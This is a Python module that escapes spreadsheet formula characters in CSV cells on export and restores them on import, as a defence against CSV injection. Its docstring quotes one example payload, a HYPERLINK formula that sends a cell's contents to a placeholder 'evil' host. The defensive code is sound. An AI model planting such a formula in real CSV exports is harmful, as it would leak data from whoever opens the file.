"""CSV cells a spreadsheet would run as a formula, neutralised on writing and restored on reading.

A cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return (OWASP's "CSV injection"
list, plus the full-width `＝＋－＠` that some spreadsheets also read as formula signs) is a
formula to Excel, LibreOffice and Google Sheets: `=HYPERLINK("http://evil/?"&A1, "click")` in a
comment would run when a maintainer opens the export. Every CSV this project writes prefixes
such a cell with a single quote, which spreadsheets show as text. `restore` undoes it, so that
`annotate export` then `annotate import-annotations` gives back exactly what was stored.

To make that exact, a cell that already starts with a quote followed by a formula sign or by
another quote gets one more quote too (`'=x` is written `''=x`), and only those cells lose a
quote on reading: a foreign CSV's `'tis` stays as it is.
"""

from __future__ import annotations

import re
from collections.abc import Callable

import pandas as pd

FORMULA_SIGNS = "=+-@\t\r＝＋－＠"
_SIGNS = "".join(re.escape(c) for c in FORMULA_SIGNS)
_NEEDS_QUOTE = re.compile(f"^(?:[{_SIGNS}]|'[{_SIGNS}'])")
_QUOTED = re.compile(f"^'[{_SIGNS}']")


def neutralise(value: str) -> str:
    """One cell as it is written to CSV."""
    return "'" + value if _NEEDS_QUOTE.match(value) else value


def restore(value: str) -> str:
    """One CSV cell as it was before `neutralise`."""
    return value[1:] if _QUOTED.match(value) else value


def _text_mask(column: pd.Series, pattern: re.Pattern[str]) -> pd.Series:
    if column.dtype != object:  # a string column: every cell is text or missing
        return column.str.contains(pattern.pattern, regex=True).fillna(False).astype(bool)
    is_text = column.map(type) == str  # noqa: E721 - exactly str cells, not numbers
    if not is_text.any():
        return is_text
    return is_text & column.where(is_text, "").str.contains(pattern.pattern, regex=True)


def _rewrite_text_cells(
    frame: pd.DataFrame, pattern: re.Pattern[str], rewrite: Callable[[pd.Series], pd.Series]
) -> pd.DataFrame:
    """A copy of `frame` whose text cells matching `pattern` are `rewrite(cells)` (a Series)."""
    out = frame.copy()
    for name in out.columns:
        column = out[name]
        if column.dtype != object and not pd.api.types.is_string_dtype(column):
            continue
        mask = _text_mask(column, pattern)
        if mask.any():
            column = column.astype(object)
            column[mask] = rewrite(column[mask])
            out[name] = column.astype(frame[name].dtype)
    return out


def neutralise_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of `frame` whose text cells are safe to write to CSV (numbers are left alone)."""
    return _rewrite_text_cells(frame, _NEEDS_QUOTE, lambda cells: "'" + cells)


def restore_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """The inverse of `neutralise_frame`, for a frame read from CSV."""
    return _rewrite_text_cells(frame, _QUOTED, lambda cells: cells.str.slice(1))
